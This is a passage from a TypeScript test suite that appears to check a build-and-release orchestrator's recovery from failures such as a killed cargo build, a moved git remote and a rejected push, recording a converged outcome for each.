      const version = await execa(join(p.sw.ws.dir, 'dist', 'bllvm', 'build', 'bllvm'), ['--version']);
      expect(version.stdout).toContain(`sandbox revision ${revision}`);
      expect(releasesOf(p.api)).toHaveLength(releasesBefore + 1);
      await expectCompleteRelease(p.api, again.json!.tag);
      expect(await p.sw.ws.git('rev-parse', 'origin/main')).toBe(await head());
    });
    await expectNothingLeft();
    results.add({ group: 'cargo', name: 'cargo SIGKILLed mid-build', outcome: 'converged', detail: 'build failed loudly (killed by SIGKILL), no dist/bllvm/build, nothing published; the rerun rebuilt from the new commit and published', durationMs: Date.now() - t });
    results.add({ group: 'git', name: 'component remote moved away (nightly, handle-event) (rerun)', outcome: 'converged', detail: 'with the remote back, the nightly moved the pin to the new commit and (after the cargo rerun) published' });
    results.add({ group: 'git', name: 'orchestrator origin rejects the push (pre-receive hook) (rerun)', outcome: 'converged', detail: 'hook removed, checkout reset to origin/main (recovery procedure): the next nightly pushed its pin commit' });
  });
});
